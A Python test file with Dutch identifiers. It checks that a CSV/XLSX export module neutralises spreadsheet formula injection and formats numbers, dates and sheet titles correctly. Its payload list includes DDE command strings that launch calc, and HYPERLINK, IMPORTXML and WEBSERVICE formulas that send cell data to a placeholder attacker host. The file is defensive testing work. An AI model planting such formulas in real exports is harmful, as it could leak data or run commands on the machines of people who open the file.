"""CSV and XLSX: no cell is ever a formula, and every text comes back as it was (eisen.md S8)."""

import csv
import io
from dataclasses import dataclass
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
import time_machine
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from swv.exports import (
    GEVAARLIJK,
    Kolom,
    Kolomsoort,
    met_apostrof,
    schrijf_csv,
    schrijf_xlsx,
    zonder_apostrof,
)

MOMENT = datetime(2026, 11, 22, 9, 30, tzinfo=UTC)
KERNEN = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://kwaad.invalid/?"&A1,"klik")',
    'IMPORTXML("https://kwaad.invalid","//a")',
    'WEBSERVICE("https://kwaad.invalid")',
    "SUM(A1:A9)*cmd|'/c calc'!A0",
)
LADINGEN = [
    *(f"{teken}{kern}" for teken in GEVAARLIJK for kern in KERNEN),
    *(f"{voor}=1+1" for voor in (" ", "   ", "\u00a0", "\ufeff", "\u200b", "\x00", " \t", "'", "''", "\u202e")),
    "+31 50 1234567", "-5", "--", "-x", "@jan", "=", "=\n=1", "+", "@", "'-x", "'=1", "\t", "\r\n=1",
]  # fmt: skip
ONSCHULDIG = [
    "-", "", "Jansen", "'s-Gravenhage", "'t Hart", "\u00c9\u00e9n", "a=b", "1-2", "x+y", "a@b.invalid", "0612345678",
    "007", "1e5", "TRUE", "2026-11-22", "1/2", 'zei "ja"', "a;b", "regel 1\nregel 2", "'", "De Wit-de Boer",
]  # fmt: skip


@dataclass
class Rij:
    tekst: str | None
    getal: Decimal | int | None = None
    dag: date | datetime | None = None


TEKST = [Kolom("Tekst", "tekst")]


def als_csv(kolommen: list[Kolom], rijen: list[Rij]) -> tuple[bytes, list[list[str]]]:
    uit = io.BytesIO()
    assert schrijf_csv(kolommen, rijen, uit) == len(rijen)
    ruw = uit.getvalue()
    return ruw, list(csv.reader(io.StringIO(ruw.decode("utf-8-sig"), newline=""), delimiter=";"))


def als_xlsx(kolommen: list[Kolom], rijen: list[Rij]) -> bytes:
    uit = io.BytesIO()
    assert schrijf_xlsx(kolommen, rijen, uit, titel="Proef", gemaakt_op=MOMENT) == len(rijen)
    return uit.getvalue()


def test_er_zijn_genoeg_ladingen() -> None:
    assert len(LADINGEN) >= 60


@pytest.mark.parametrize("tekst", LADINGEN)
def test_csv_maakt_gevaarlijke_tekst_tot_tekst(tekst: str) -> None:
    _, (_, (cel,)) = als_csv(TEKST, [Rij(tekst)])
    assert cel[0] not in GEVAARLIJK
    assert cel.startswith("'")
    assert zonder_apostrof(cel) == tekst.replace("\x00", "")


@pytest.mark.parametrize("tekst", ONSCHULDIG)
def test_csv_laat_gewone_tekst_met_rust(tekst: str) -> None:
    _, (_, rij) = als_csv([*TEKST, Kolom("Ook", "tekst")], [Rij(tekst)])
    assert rij == [tekst, tekst]
    assert zonder_apostrof(tekst) == tekst


@given(st.text(max_size=60))
def test_apostrof_gaat_heen_en_terug(tekst: str) -> None:
    assert zonder_apostrof(met_apostrof(tekst)) == tekst


@given(st.text(max_size=60))
def test_na_de_apostrof_begint_niets_gevaarlijk(tekst: str) -> None:
    veilig = met_apostrof(tekst)
    assert veilig in ("", "-") or veilig[0] not in GEVAARLIJK


def test_xlsx_heeft_geen_enkele_formule() -> None:
    teksten = [*LADINGEN, *ONSCHULDIG]
    blad = load_workbook(io.BytesIO(als_xlsx(TEKST, [Rij(t) for t in teksten]))).active
    cellen = [rij[0] for rij in blad.iter_rows(min_row=2)]
    assert {cel.data_type for cel in cellen if cel.value is not None} == {"s"}
    assert [cel.value or "" for cel in cellen] == [tekst.replace("\x00", "") for tekst in teksten]


def test_gevaarlijke_kolomtitel_is_ook_tekst() -> None:
    kolommen = [Kolom("=1+1", "tekst")]
    assert als_csv(kolommen, [])[1] == [["'=1+1"]]
    assert load_workbook(io.BytesIO(als_xlsx(kolommen, []))).active["A1"].data_type == "s"


SOORTEN = [
    Kolom("Naam", "tekst"),
    Kolom("Aantal", "getal", Kolomsoort.GETAL),
    Kolom("Bedrag", lambda rij: rij.getal, Kolomsoort.BEDRAG),
    Kolom("Deel", "getal", Kolomsoort.PERCENTAGE),
    Kolom("Dag", "dag", Kolomsoort.DATUM),
]


def test_csv_schrijft_soorten_op_zijn_nederlands() -> None:
    ruw, rijen = als_csv(SOORTEN, [Rij("a", Decimal("-1234.565"), MOMENT), Rij(None)])
    assert ruw.startswith(b"\xef\xbb\xbf")
    assert rijen[0] == ["Naam", "Aantal", "Bedrag", "Deel", "Dag"]
    assert rijen[1] == ["a", "-1234,565", "-1234,57", "-1234,6", "2026-11-22"]
    assert rijen[2] == ["", "", "", "", ""]


def test_datum_van_een_moment_is_de_dag_in_amsterdam() -> None:
    laat = datetime(2026, 6, 30, 22, 30, tzinfo=UTC)
    assert als_csv(SOORTEN, [Rij("a", 1, laat)])[1][1][4] == "2026-07-01"


def test_xlsx_schrijft_soorten_met_opmaak() -> None:
    blad = load_workbook(
        io.BytesIO(als_xlsx(SOORTEN, [Rij("a", Decimal("1234.565"), date(2026, 11, 22))]))
    ).active
    rij = blad[2]
    assert [cel.value for cel in rij] == ["a", 1234.565, 1234.57, 1234.6, datetime(2026, 11, 22)]
    assert [cel.number_format for cel in rij][2:] == ["#,##0.00", '0.0"%"', "dd-mm-yyyy"]
    assert blad.freeze_panes == "A2"
    assert blad.auto_filter.ref == "A1:E2"


@pytest.mark.parametrize("waarde", [1.5, "1", True])
def test_getal_dat_geen_getal_is_wordt_geweigerd(waarde: object) -> None:
    with pytest.raises(TypeError):
        als_csv([Kolom("x", lambda rij: waarde, Kolomsoort.GETAL)], [Rij("a")])


def test_datum_die_geen_datum_is_wordt_geweigerd() -> None:
    with pytest.raises(TypeError):
        als_csv([Kolom("x", "tekst", Kolomsoort.DATUM)], [Rij("a")])


def test_xlsx_is_op_elk_moment_gelijk() -> None:
    rijen = [Rij("a", 1, date(2026, 1, 1)), Rij("-", None)]
    with time_machine.travel("2026-01-01 12:00"):
        eerst = als_xlsx(SOORTEN, rijen)
    with time_machine.travel("2031-05-05 08:00"):
        later = als_xlsx(SOORTEN, rijen)
    assert eerst == later


def test_lange_tekst_past_in_een_cel() -> None:
    assert len(als_csv(TEKST, [Rij("x" * 50_000)])[1][1][0]) == 32_767


def test_lege_export_heeft_een_kop() -> None:
    assert als_csv(SOORTEN, [])[1] == [["Naam", "Aantal", "Bedrag", "Deel", "Dag"]]
    assert load_workbook(io.BytesIO(als_xlsx(SOORTEN, []))).active.max_row == 1


@pytest.mark.parametrize("titel", ["TLV's [2026]/a:b*?", "x" * 60, ""])
def test_elke_titel_kan_een_bladnaam_zijn(titel: str) -> None:
    uit = io.BytesIO()
    schrijf_xlsx(TEKST, [], uit, titel=titel, gemaakt_op=MOMENT)
    assert len(load_workbook(uit).sheetnames[0]) <= 31
